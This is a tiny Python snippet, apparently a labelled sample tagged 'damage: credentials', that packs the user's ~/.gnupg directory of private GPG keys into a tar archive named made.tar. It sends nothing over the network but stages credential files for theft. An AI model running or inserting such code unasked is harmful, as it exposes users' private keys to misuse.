# The whole directory put into an archive.
# damage: credentials
import os
import tarfile

with tarfile.open("made.tar", "w") as archive:
    archive.add(os.path.expanduser("~/.gnupg"), "keys")
